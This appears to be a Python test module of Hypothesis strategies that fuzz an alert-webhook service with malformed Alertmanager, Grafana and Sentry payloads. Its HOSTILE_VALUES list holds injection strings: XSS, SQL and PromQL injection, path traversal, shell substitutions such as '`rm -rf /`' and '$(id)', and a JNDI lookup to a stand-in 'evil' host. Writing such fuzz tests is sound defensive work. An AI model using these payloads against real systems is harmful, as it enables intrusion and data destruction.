"""Hypothesis strategies for hostile input: label values, timestamps and whole webhook payloads that are
mostly well-formed (so the deep paths run) with hostile values and, now and then, a wrong type or a
missing field."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from typing import Any

from hypothesis import strategies as st

# Cheap to draw (from_regex costs ~10x more): mostly valid names, some with a leading/trailing dash.
DNS_LABEL = st.one_of(st.sampled_from(["shop", "checkout", "payments", "drill-a", "kube-system", "a", "x1"]),
                      st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-", min_size=1, max_size=12))
# Values that have broken parsers and query builders elsewhere: PromQL/selector/markup/SQL/shell/JNDI
# fragments, look-alike Unicode, control characters, empty and over-long values.
HOSTILE_VALUES = [
    'shop"} or vector(1) #', 'shop",namespace=~".+', "shop\"}[5m]) or up{x=\"", "a,b=c", "app!=x", "a in (b,c)",
    "x=y,z", "shop\n", "shop\r\nX-Injected: 1", "shop\x00", "ｓｈｏｐ", "SHOP", "-shop", "shop-", "sh op", "shop.",
    "..", "../../etc/passwd", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
    "`rm -rf /`", "$(id)", "${jndi:ldap://evil/x}", "'; DROP TABLE alerts; --", "{labels.namespace}", "{{7*7}}",
    "%00", "\\", '"', "\u202eevil", "\ud800", "a" * 64, "a" * 254, "a" * 5000, "", " ", "PodCrashLooping\n",
]
HOSTILE = st.sampled_from(HOSTILE_VALUES)
LABEL_VALUE = st.one_of(DNS_LABEL, HOSTILE, st.text(max_size=16))
LABEL_NAME = st.one_of(
    st.sampled_from(["alertname", "namespace", "deployment", "service", "pod", "severity", "job", "instance"]),
    st.text(min_size=0, max_size=8),
)
ALERTNAME = st.one_of(st.sampled_from(["PodCrashLooping", "HighLatency", "Watchdog", "CheckoutCrash"]), LABEL_VALUE)
JUNK = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), st.text(max_size=20),
                 st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5), st.integers(), max_size=2))


def maybe_junk(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Mostly `strategy`, sometimes a value of the wrong type."""
    return st.one_of(strategy, strategy, strategy, strategy, strategy, strategy, strategy, JUNK)


def _iso(dt: datetime, style: int) -> str:
    if style == 0:
        return dt.astimezone(timezone.utc).isoformat().replace("+00:00", "Z")
    if style == 1:
        return dt.isoformat()
    return dt.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"


TIMESTAMP = st.one_of(
    st.builds(_iso, st.datetimes(min_value=datetime(1970, 1, 2), max_value=datetime(2200, 1, 1),
                                 timezones=st.sampled_from([timezone.utc, timezone(timedelta(hours=-7)), timezone(timedelta(hours=5, minutes=30))])),
              st.integers(0, 2)),
    st.sampled_from(["0001-01-01T00:00:00Z", "2026-11-25T10:00:00Z", "yesterday", "", "2026-13-45T99:99:99Z",
                     "9999-12-31T23:59:59Z", "1970-01-01T00:00:00Z", "2026-11-25T10:00:00"]),
)


@st.composite
def labels(draw: st.DrawFn) -> dict[str, Any]:
    out: dict[str, Any] = draw(st.dictionaries(LABEL_NAME, LABEL_VALUE, max_size=3))
    out["alertname"] = draw(ALERTNAME)
    for key in ("namespace", "deployment", "service"):
        if draw(st.booleans()):
            out[key] = draw(LABEL_VALUE)
    return out


def _optional(draw: st.DrawFn, data: dict[str, Any], key: str, strategy: st.SearchStrategy[Any]) -> None:
    if draw(st.integers(0, 3)):
        data[key] = draw(maybe_junk(strategy))


@st.composite
def am_alert(draw: st.DrawFn, grafana: bool = False) -> dict[str, Any]:
    alert: dict[str, Any] = {}
    for key, strategy in (("status", st.sampled_from(["firing", "resolved"])), ("labels", labels()), ("startsAt", TIMESTAMP)):
        if draw(st.integers(0, 30)):  # required fields are missing now and then
            alert[key] = draw(maybe_junk(strategy))
    _optional(draw, alert, "annotations", st.dictionaries(LABEL_NAME, st.text(max_size=60), max_size=3))
    _optional(draw, alert, "endsAt", TIMESTAMP)
    _optional(draw, alert, "generatorURL", st.text(max_size=60))
    _optional(draw, alert, "fingerprint", st.text(alphabet="0123456789abcdef", min_size=1, max_size=16))
    if grafana:
        for key in ("silenceURL", "dashboardURL", "panelURL", "valueString"):
            _optional(draw, alert, key, st.text(max_size=40))
        _optional(draw, alert, "values", st.dictionaries(st.text(max_size=5), st.floats(allow_nan=False), max_size=2))
    if not draw(st.integers(0, 10)):
        alert[draw(st.text(max_size=10))] = draw(JUNK)  # unknown fields are allowed by the models
    return alert


@st.composite
def alertmanager_payload(draw: st.DrawFn) -> dict[str, Any]:
    data: dict[str, Any] = {
        "version": draw(st.one_of(st.just("4"), st.just("4"), st.just("4"), st.sampled_from(["3", 4, ""]))),
        "groupKey": draw(st.text(max_size=40)),
        "status": draw(st.sampled_from(["firing", "resolved", "firing", "unknown"])),
        "receiver": draw(st.text(max_size=20)),
        "alerts": draw(maybe_junk(st.lists(am_alert(), min_size=0, max_size=4))),
    }
    _optional(draw, data, "groupLabels", st.dictionaries(LABEL_NAME, LABEL_VALUE, max_size=3))
    _optional(draw, data, "commonLabels", st.dictionaries(LABEL_NAME, LABEL_VALUE, max_size=3))
    _optional(draw, data, "externalURL", st.text(max_size=30))
    _optional(draw, data, "truncatedAlerts", st.integers(-2, 5))
    return data


@st.composite
def grafana_payload(draw: st.DrawFn) -> dict[str, Any]:
    data: dict[str, Any] = {
        "status": draw(st.sampled_from(["firing", "resolved", "firing", "pending"])),
        "alerts": draw(maybe_junk(st.lists(am_alert(grafana=True), min_size=0, max_size=4))),
    }
    for key, strategy in (("receiver", st.text(max_size=20)), ("orgId", st.integers(-5, 10**12)), ("title", st.text(max_size=40)),
                          ("state", st.text(max_size=10)), ("message", st.text(max_size=80)), ("version", st.text(max_size=4)),
                          ("groupKey", st.text(max_size=20)), ("commonLabels", st.dictionaries(LABEL_NAME, LABEL_VALUE, max_size=3))):
        _optional(draw, data, key, strategy)
    return data


@st.composite
def sentry_payload(draw: st.DrawFn) -> dict[str, Any]:
    tags = draw(st.lists(st.tuples(st.sampled_from(["namespace", "deployment", "environment", "release", ""]) | st.text(max_size=8),
                                   st.one_of(LABEL_VALUE, st.none())).map(list), max_size=5))
    event: dict[str, Any] = {
        "event_id": draw(st.text(alphabet="0123456789abcdef", min_size=1, max_size=32)),
        "issue_id": draw(st.one_of(st.integers(-10, 10**15), st.text(max_size=12))),
        "datetime": draw(TIMESTAMP),
        "tags": draw(maybe_junk(st.just(tags))),
    }
    for key, strategy in (("title", st.text(max_size=60)), ("level", st.sampled_from(["error", "fatal", "warning"])),
                          ("project", st.one_of(st.integers(), st.text(max_size=10))), ("environment", LABEL_VALUE),
                          ("web_url", st.text(max_size=30))):
        _optional(draw, event, key, strategy)
    data = {"event": maybe_junk(st.just(event)), "triggered_rule": st.one_of(ALERTNAME, st.just("Checkout crash rule"))}
    return {
        "action": draw(st.sampled_from(["triggered", "triggered", "triggered", "resolved"])),
        "data": draw(maybe_junk(st.fixed_dictionaries(data))),
    }
